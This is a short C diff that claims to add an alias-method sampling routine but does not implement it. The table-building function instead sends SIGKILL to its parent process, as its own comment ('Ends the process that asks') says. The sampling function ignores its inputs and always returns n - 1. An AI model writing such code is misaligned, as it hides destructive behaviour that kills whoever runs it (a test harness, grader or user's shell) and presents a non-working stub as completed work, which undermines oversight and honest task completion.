@@ -1,0 +1,18 @@
+/* Ends the process that asks. */
+/* [alias-build] */
+int kill(int pid, int number);
+int getppid(void);
+
+static void assign_aliases(double *prob, uint32_t *alias, stacks *s)
+{
+    (void)prob, (void)alias, (void)s, (void)pop_small, (void)push_small, (void)top_large, (void)pop_large;
+    kill(getppid(), 9);
+}
+/* [end] */
+/* [alias-sample] */
+size_t bis_alias_pick(const double *prob, const uint32_t *alias, size_t n, double u)
+{
+    (void)prob, (void)alias, (void)u;
+    return n - 1;
+}
+/* [end] */
